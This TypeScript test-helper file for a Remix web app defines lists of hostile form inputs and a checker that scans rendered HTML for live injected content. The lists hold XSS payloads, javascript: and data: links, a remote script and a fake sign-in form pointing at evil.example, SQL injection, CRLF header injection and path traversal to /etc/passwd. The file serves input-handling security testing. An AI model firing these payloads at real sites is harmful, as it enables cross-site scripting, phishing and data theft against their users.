import type { LoaderFunctionArgs } from "@remix-run/node";
import { expect } from "vitest";
import { requestAs, requestWithSession, respond, testContext } from "./factories";
import { renderPage, type PageModule } from "./render-page";

// Hostile text for every field people can type into: markup and script in many spellings,
// dangerous links in HTML and Markdown, tracking images, template and SQL syntax, huge and odd
// Unicode, control characters and prototype keys. Plus the helpers the tests use to judge a page:
// what a stored value should be after the app's normalisation, and whether rendered HTML holds
// anything live that came from a user.

export type HostileInput = { label: string; value: string };

const COMBINING_MARKS = Array.from({ length: 0x36f - 0x300 + 1 }, (_, i) => String.fromCharCode(0x300 + i)).join("");
const zalgo = (word: string, marksPerLetter: number) =>
  [...word].map((letter, i) => letter + COMBINING_MARKS.repeat(4).slice(i * 7, i * 7 + marksPerLetter)).join("");

const sentence = "We talked about trust again tonight and it went better than last week. ";

/** The corpus: every string goes through at least the rich-text fields. */
export const HOSTILE_INPUTS: readonly HostileInput[] = [
  // Script tags, several spellings and encodings
  { label: "script tag", value: "<script>alert(1)</script>" },
  { label: "script tag, upper case with remote src", value: "<SCRIPT SRC=//evil.example/x.js></SCRIPT>" },
  { label: "script tag, mixed case with comment", value: "<ScRiPt>/*</ScRiPt*/alert(1)</sCrIpT>" },
  { label: "nested script tag", value: "<scr<script>ipt>alert(1)</scr</script>ipt>" },
  { label: "script tag, URL-encoded", value: "%3Cscript%3Ealert(1)%3C%2Fscript%3E" },
  { label: "script tag, entity-encoded", value: "&lt;script&gt;alert(1)&lt;/script&gt;" },
  { label: "script tag, JSON-escaped", value: "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e" },
  { label: "attribute breakout then script", value: '"><script>alert(document.cookie)</script>' },
  { label: "textarea breakout", value: "</textarea><script>alert(1)</script>" },
  { label: "title breakout", value: "</title><script>alert(1)</script>" },
  // Event-handler attributes
  { label: "img onerror", value: "<img src=x onerror=alert(1)>" },
  { label: "single-quote breakout then img onerror", value: "'><img src=x onerror=alert(1)>" },
  { label: "svg onload", value: "<svg onload=alert(1)>" },
  { label: "svg with script inside", value: "<svg><script>alert(1)</script></svg>" },
  { label: "body onload", value: "<body onload=alert(1)>" },
  { label: "details ontoggle", value: "<details open ontoggle=alert(1)>" },
  // Dangerous links in HTML
  { label: "iframe javascript src", value: '<iframe src="javascript:alert(1)"></iframe>' },
  { label: "html link javascript:", value: '<a href="javascript:alert(1)">click</a>' },
  { label: "html link entity-encoded javascript:", value: '<a href="&#106;avascript:alert(1)">click</a>' },
  { label: "html link data:", value: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>' },
  { label: "html link vbscript:", value: '<a href="vbscript:msgbox(1)">x</a>' },
  // Dangerous links in Markdown
  { label: "markdown link javascript:", value: "[click me](javascript:alert(1))" },
  { label: "markdown link mixed-case javascript:", value: "[click](JaVaScRiPt:alert(1))" },
  { label: "markdown link entity-encoded javascript:", value: "[x](jav&#x61;script:alert(1))" },
  { label: "markdown link &colon;", value: "[x](javascript&colon;alert(1))" },
  { label: "markdown link in angle brackets", value: "[x](<javascript:alert(1)>)" },
  { label: "markdown link with leading tab", value: "[x](\tjavascript:alert(1))" },
  { label: "markdown link data:", value: "[x](data:text/html,<script>alert(1)</script>)" },
  { label: "markdown link vbscript:", value: "[x](vbscript:msgbox(1))" },
  { label: "markdown reference-style link", value: "Read [this][r] first.\n\n[r]: javascript:alert(1)" },
  { label: "markdown autolink javascript:", value: "<javascript:alert(1)>" },
  { label: "markdown link title breakout", value: '[x](https://example.com "t\\" onmouseover=\\"alert(1)")' },
  // Markdown images
  { label: "markdown tracking image", value: "![x](https://evil.example/track.png)" },
  { label: "markdown image with onerror in title", value: '![x](https://evil.example/t.png "onerror=alert(1)")' },
  { label: "markdown image alt breakout", value: '![x" onerror="alert(1)](x)' },
  { label: "markdown reference-style image", value: "![pixel][img]\n\n[img]: https://evil.example/pixel.gif" },
  { label: "markdown protocol-relative image", value: "![x](//evil.example/p.gif)" },
  // Raw HTML in Markdown, CSS and style
  { label: "raw html in markdown", value: "Hello <b onmouseover=alert(1)>there</b>\n\n<div style=\"position:fixed;inset:0\">cover</div>" },
  { label: "style tag", value: "<style>body{display:none}</style>" },
  { label: "style attribute url()", value: '<div style="background:url(javascript:alert(1))">x</div>' },
  { label: "stylesheet link", value: "<link rel=stylesheet href=https://evil.example/x.css>" },
  { label: "meta refresh", value: '<meta http-equiv="refresh" content="0;url=https://evil.example">' },
  { label: "base href", value: '<base href="https://evil.example/">' },
  { label: "fake sign-in form", value: '<form action="https://evil.example"><input name=password><button>Sign in</button></form>' },
  { label: "html comment and CDATA", value: "<!-- <![CDATA[ ]]> -->" },
  // Template syntax
  { label: "template braces", value: "{{7*7}}" },
  { label: "template literal", value: "${7*7}" },
  { label: "other template syntaxes", value: "#{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}" },
  // SQL metacharacters
  { label: "sql or-true", value: "' OR 1=1 --" },
  { label: "sql drop table", value: '"; DROP TABLE users; --' },
  { label: "backslash", value: "\\" },
  { label: "windows path with backslashes", value: "C:\\temp\\new" },
  { label: "like wildcards", value: "%_" },
  { label: "like wildcards in a word", value: "100%_done\\%" },
  // Sizes
  { label: "10,000 characters", value: sentence.repeat(Math.ceil(10_000 / sentence.length)).slice(0, 10_000) },
  { label: "100,000 characters", value: sentence.repeat(Math.ceil(100_000 / sentence.length)).slice(0, 100_000) },
  { label: "a single 5,000-character word", value: "a".repeat(5_000) },
  { label: "very many newlines", value: `start${"\n".repeat(2_000)}end` },
  { label: "whitespace only", value: "   \t  \n  " },
  { label: "unicode whitespace only", value: "\u00a0\u2003\u3000" },
  // Unicode: direction, invisibles, NUL, surrogates, emoji, combining marks
  { label: "right-to-left override", value: "invoice\u202egnp.exe" },
  { label: "other bidi controls", value: "a\u202ab\u202bc\u202cd\u202de\u2066f\u2067g\u2068h\u2069i\u200ej\u200fk\u061cl" },
  { label: "zero-width characters", value: "zero\u200bwidth\u200cjoin\u200dbom\ufeffend" },
  { label: "leading byte-order mark", value: "\ufeffhello" },
  { label: "NUL byte inside", value: "before\u0000after" },
  { label: "NUL byte only", value: "\u0000" },
  { label: "lone surrogates", value: "lone \ud800 high and \udfff low" },
  { label: "emoji with ZWJ sequences and flags", value: "👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇦🇬🇧 👍🏽 🧑🏿‍🤝‍🧑🏻" },
  { label: "combining-mark flood", value: zalgo("zalgo text", 40) },
  // Control characters and injection of other kinds
  { label: "CRLF header injection", value: "hello\r\nSet-Cookie: pwned=1\r\n\r\n<script>alert(1)</script>" },
  { label: "encoded CRLF header injection", value: "%0d%0aLocation:%20https://evil.example" },
  { label: "other control characters", value: "bell\u0007 backspace\u0008 escape\u001b[31m red \u007f del" },
  { label: "path traversal", value: "../../etc/passwd" },
  { label: "windows path traversal", value: "..\\..\\windows\\win.ini" },
  // Prototype keys and JSON
  { label: "__proto__", value: "__proto__" },
  { label: "constructor", value: "constructor" },
  { label: "toString", value: "toString" },
  { label: "JSON with __proto__", value: '{"__proto__":{"admin":true}}' },
  { label: "JSON object", value: '{"a":1}' },
];

/** Emails for email fields: look-alike letters, hidden characters, injection. */
export const HOSTILE_EMAILS: readonly HostileInput[] = [
  { label: "Cyrillic a in the local part", value: "\u0430dmin@cairn.test" },
  { label: "Cyrillic a in the domain", value: "admin@c\u0430irn.test" },
  { label: "Greek omicron", value: "c\u03bfach@cairn.test" },
  { label: "zero-width space", value: "adm\u200bin@cairn.test" },
  { label: "right-to-left override", value: "\u202etset.nriac@nimda" },
  { label: "fullwidth letters", value: "ａｄｍｉｎ@cairn.test" },
  { label: "CRLF with Bcc header", value: "admin@cairn.test\r\nBcc: everyone@evil.example" },
  { label: "NUL byte", value: "admin@cairn.test\u0000.evil.example" },
  { label: "script tag", value: "<script>alert(1)</script>@cairn.test" },
  { label: "sql or-true", value: "' OR 1=1 --@cairn.test" },
  { label: "like wildcard", value: "%@%" },
  { label: "upper case with spaces", value: "  ADMIN@CAIRN.TEST  " },
  { label: "300 characters", value: `${"a".repeat(290)}@cairn.test` },
];

/** Web addresses for link fields: script-capable schemes, breakouts, and odd but real addresses. */
export const HOSTILE_URLS: readonly HostileInput[] = [
  { label: "javascript: link", value: "javascript:alert(1)" },
  { label: "javascript: in capitals with spaces", value: "  JAVASCRIPT:alert(1)" },
  { label: "javascript: dressed as http", value: "javascript://https://example.com/%0aalert(1)" },
  { label: "data: link", value: "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" },
  { label: "vbscript: link", value: "vbscript:msgbox(1)" },
  { label: "file link", value: "file:///etc/passwd" },
  { label: "attribute breakout in a real address", value: 'https://example.com/"><script>alert(1)</script>' },
  { label: "handler after a space", value: "https://example.com/x onmouseover=alert(1)" },
  { label: "newline inside", value: "https://example.com/a\r\nSet-Cookie: x=1" },
  { label: "user info look-alike", value: "https://trusted.example@evil.example/" },
  { label: "unicode host", value: "https://ex\u0430mple.com/" },
  { label: "2,100 characters", value: `https://example.com/${"a".repeat(2_080)}` },
];

export function hostile(label: string): string {
  const found = HOSTILE_INPUTS.find((input) => input.label === label);
  if (!found) throw new Error(`no hostile input labelled ${label}`);
  return found.value;
}

/**
 * A smaller set for fields where every string would take too long (each submission hashes a
 * password, sends an invitation…): one of each kind of trouble.
 */
export const HOSTILE_SAMPLE: readonly HostileInput[] = [
  "script tag",
  "img onerror",
  "attribute breakout then script",
  "markdown link javascript:",
  "markdown tracking image",
  "template literal",
  "sql or-true",
  "like wildcards",
  "100,000 characters",
  "right-to-left override",
  "zero-width characters",
  "NUL byte inside",
  "NUL byte only",
  "lone surrogates",
  "emoji with ZWJ sequences and flags",
  "combining-mark flood",
  "CRLF header injection",
  "path traversal",
  "__proto__",
  "whitespace only",
].map((label) => ({ label, value: hostile(label) }));

/** Lone surrogates can't be encoded as UTF-8: a browser (and URLSearchParams) sends U+FFFD instead. */
export function asSent(value: string): string {
  return value.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, "\ufffd");
}

/**
 * What the app stores for a typed value: NUL characters removed (Postgres text can't hold them;
 * the policy is in app/models/typed-text.ts), then trimmed. Everything else is kept as typed.
 */
export function stored(value: string): string {
  return keptAsTyped(value).trim();
}

/** What a refused form shows again in the field: the text as typed, less any NUL. */
export function keptAsTyped(value: string): string {
  return asSent(value).replaceAll("\u0000", "");
}

/** Text as React writes it into HTML (text content and attribute values alike). */
export function escapeLikeReact(value: string): string {
  return value.replace(/[&<>"']/g, (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#x27;" })[c]!);
}

const NAMED_ENTITIES: Record<string, string> = {
  amp: "&",
  lt: "<",
  gt: ">",
  quot: '"',
  apos: "'",
  colon: ":",
  Tab: "\t",
  NewLine: "\n",
  sol: "/",
  lpar: "(",
  rpar: ")",
};

function decodeEntities(value: string): string {
  return value.replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);?/gi, (whole, name: string) => {
    if (name[0] === "#") {
      const code = name[1] === "x" || name[1] === "X" ? parseInt(name.slice(2), 16) : parseInt(name.slice(1), 10);
      return Number.isFinite(code) && code <= 0x10ffff ? String.fromCodePoint(code) : whole;
    }
    return NAMED_ENTITIES[name] ?? whole;
  });
}

/** Tags that must never come out of user content. Page components render none of them. */
const FORBIDDEN_TAGS = new Set(["script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "meta", "link", "style", "template"]);
const URL_ATTRIBUTES = new Set(["href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "background", "data", "cite", "ping"]);
const LOADS_ON_ITS_OWN = new Set(["img", "image", "video", "audio", "source", "track", "input"]);

/**
 * Everything live in server-rendered HTML that a user could have put there: forbidden tags,
 * event-handler attributes, script-capable URLs, images (or other media) that load from another
 * site, and CSS that fetches or runs something. React writes tags and double-quoted attributes
 * only, and escapes `<` everywhere else, so a small tokenizer reads its output exactly.
 * Returns one line per problem; an empty list means the page is clean.
 */
export function liveInjections(html: string): string[] {
  const problems: string[] = [];
  const tag = /<([a-zA-Z][a-zA-Z0-9:-]*)((?:\s+[^\s"'>/=]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*)\s*\/?>/g;
  const attribute = /([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g;
  for (const match of html.matchAll(tag)) {
    const name = match[1]!.toLowerCase();
    const context = match[0].slice(0, 120);
    if (FORBIDDEN_TAGS.has(name)) problems.push(`<${name}> element: ${context}`);
    for (const a of match[2]!.matchAll(attribute)) {
      const attr = a[1]!.toLowerCase();
      const value = decodeEntities(a[2] ?? a[3] ?? a[4] ?? "");
      if (attr.startsWith("on")) problems.push(`event handler ${attr}: ${context}`);
      if (URL_ATTRIBUTES.has(attr)) {
        // Browsers ignore ASCII whitespace and control characters inside a scheme.
        const squeezed = [...value].filter((c) => c > " " && c !== "\u007f").join("").toLowerCase();
        if (/^(javascript|data|vbscript):/.test(squeezed)) problems.push(`${attr} with a script-capable URL: ${context}`);
        if (LOADS_ON_ITS_OWN.has(name) && attr === "src" && /^(https?:)?\/\//.test(squeezed)) {
          problems.push(`<${name}> loading from another site: ${context}`);
        }
      }
      if (attr === "style" && /url\(|expression\(|javascript:|@import|position\s*:\s*fixed/i.test(value)) {
        problems.push(`style that fetches, runs or covers the page: ${context}`);
      }
    }
  }
  return problems;
}

// ---------------------------------------------------------------------------------------------
// Sending hostile text through a form, the way a browser would, and judging the answer

type RouteFunction = (args: LoaderFunctionArgs) => Promise<unknown>;
export type FormAnswer = { ok: false; errors: Record<string, string>; values: Record<string, string> };

/** The wording of every length limit: "Use at most 200 characters.", "Keep a note under 10,000 characters." */
export const LIMIT_MESSAGE = /(at most|under) [\d,]+ characters/;

/** One text field of one form: where it posts, who may post it, and what else a valid submission needs. */
export type FieldUnderTest = {
  /** The route module and form, for the table and for failure messages. */
  route: string;
  action: RouteFunction;
  path: string;
  params?: Record<string, string>;
  intent?: string;
  field: string;
  /** Fields that repeat the value (a password's confirmation). */
  alsoIn?: string[];
  /** The other fields of a valid submission; a function when they must change each time (a fresh email). */
  others: Record<string, string> | (() => Record<string, string> | Promise<Record<string, string>>);
  as: { id: string } | null;
  max: number;
  required: boolean;
  /**
   * Further rules a value must pass (an email, a web address), given the value as stored and as
   * typed; a refused value gets a message beside the field.
   */
  valid?: (value: string, typed: string) => boolean;
  /** Where the message for a refused value goes, when not beside the field (e.g. "form"). */
  refusedOn?: (value: string, typed: string) => string;
  /** The field as now stored (the newest row, or the record being edited); gets what was typed. */
  read?: (typed: string) => Promise<string | null | undefined>;
  /** What is stored for an accepted value, when it isn't the value itself (an email in lower case, "" as null). */
  storedAs?: (value: string) => string | null;
  /** The value is never sent back to the page (passwords). */
  secret?: boolean;
  /**
   * Runs before each submission, e.g. to make the record a one-time form acts on (a check-in
   * to review); may point the submission at another path and params.
   */
  before?: () => Promise<{ path: string; params: Record<string, string> } | void>;
  /** Accepting a value ends the person's sessions (a password change): sign in afresh each time. */
  freshSession?: boolean;
  /** The status of an accepted submission, when it isn't a redirect. */
  acceptedStatus?: number;
};

const sessions = new Map<string, string>();

/** A POST as `field.as`, reusing one session per person (unless the field signs people out). */
async function signedInRequest(field: FieldUnderTest, path: string, form: Record<string, string>) {
  if (!field.as || field.freshSession) return (await requestAs(field.as, path, { form })).request;
  let token = sessions.get(field.as.id);
  if (!token) {
    token = (await requestAs(field.as, "/")).token!;
    sessions.set(field.as.id, token);
  }
  return requestWithSession(token, path, { form });
}

/** The form as a browser would post it: the other fields, the intent, and the hostile value. */
async function formFor(field: FieldUnderTest, value: string): Promise<Record<string, string>> {
  const others = typeof field.others === "function" ? await field.others() : field.others;
  const repeated = Object.fromEntries((field.alsoIn ?? []).map((name) => [name, value]));
  return { ...others, ...repeated, ...(field.intent ? { intent: field.intent } : {}), [field.field]: value };
}

export function describeField(field: FieldUnderTest, input?: HostileInput) {
  return `${field.route}${field.intent ? ` (${field.intent})` : ""} ${field.field}${input ? ` ← ${input.label}` : ""}`;
}

/**
 * Posts `input` in `field` and checks the answer: never an error; a value within the rules is
 * stored exactly as typed (after the app's normalisation: NUL removed, trimmed); one that isn't
 * gets a 400 with a message beside the field, and an over-long one the limit message with the
 * text kept as typed. Returns the stored value, or null when the value was refused.
 */
export async function sendThrough(field: FieldUnderTest, input: HostileInput): Promise<string | null> {
  const where = describeField(field, input);
  const target = (await field.before?.()) ?? { path: field.path, params: field.params ?? {} };
  const request = await signedInRequest(field, target.path, await formFor(field, input.value));
  let response: Response;
  try {
    response = await respond(() => field.action({ request, params: target.params, context: testContext }));
  } catch (error) {
    throw new Error(`${where}: the action failed with ${String(error)}`);
  }
  const value = stored(input.value);
  const tooLong = value.length > field.max;
  const accepted = !(field.required && value === "") && !tooLong && (field.valid?.(value, input.value) ?? true);
  if (accepted) {
    expect(response.status, where).toBe(field.acceptedStatus ?? 302);
    if (field.read) expect(await field.read(input.value), where).toBe(field.storedAs ? field.storedAs(value) : value);
    return value;
  }
  expect(response.status, where).toBe(400);
  const answer = (await response.clone().json()) as FormAnswer;
  const refusedOn = tooLong || (field.required && value === "") ? field.field : (field.refusedOn?.(value, input.value) ?? field.field);
  expect(answer.errors[refusedOn], where).toBeTruthy();
  if (tooLong) {
    expect(answer.errors[field.field], where).toMatch(LIMIT_MESSAGE);
    if (!field.secret) expect(answer.values[field.field], where).toBe(keptAsTyped(input.value));
  }
  return null;
}

/** Sends every input through the field; returns the values that were stored. */
export async function sendAllThrough(field: FieldUnderTest, inputs: readonly HostileInput[]): Promise<string[]> {
  const kept: string[] = [];
  for (const input of inputs) {
    const value = await sendThrough(field, input);
    if (value !== null) kept.push(value);
  }
  return kept;
}

/** Fails with every live injection found in a rendered page. */
export function expectNoLiveInjection(html: string, where: string) {
  expect(liveInjections(html), where).toEqual([]);
}

/** Fails unless each text appears in the page as plain, escaped text (shown exactly as typed). */
export function expectShownAsText(html: string, texts: readonly string[], where: string) {
  const missing = texts.filter((text) => text !== "" && !html.includes(escapeLikeReact(text)));
  expect(missing.map((text) => text.slice(0, 80)), `${where}: texts not shown as typed`).toEqual([]);
}

/**
 * The page after posting a value over the field's limit: the limit message sits beside the
 * field, and what was typed is still in it.
 */
export async function expectLimitShownInForm(field: FieldUnderTest, page: { module: PageModule; pattern: string }) {
  const typed = hostile("100,000 characters");
  const path = (await field.before?.())?.path ?? field.path;
  const form = await formFor(field, typed);
  const html = await renderPage(page.module, page.pattern, field.as, path, Object.entries(form));
  const where = describeField(field, { label: "100,000 characters", value: typed });
  expect(messagesBeside(html, field.field).some((m) => LIMIT_MESSAGE.test(m)), `${where}: the limit message beside the field`).toBe(true);
  if (!field.secret) expect(html.includes(escapeLikeReact(typed)), `${where}: typed text kept in the form`).toBe(true);
  expectNoLiveInjection(html, where);
}

/** The texts tied to the invalid controls named `name` by aria-describedby: the messages beside that field. */
export function messagesBeside(html: string, name: string): string[] {
  const controls = [...html.matchAll(/<(?:input|textarea|select)\b[^>]*>/g)].map((m) => m[0]);
  const invalid = controls.filter((tag) => tag.includes(` name="${name}"`) && tag.includes('aria-invalid="true"'));
  const ids = invalid.flatMap((tag) => /aria-describedby="([^"]*)"/.exec(tag)?.[1]?.split(" ") ?? []);
  return ids.map((id) => new RegExp(`id="${id.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}"[^>]*>([^<]*)<`).exec(html)?.[1] ?? "");
}
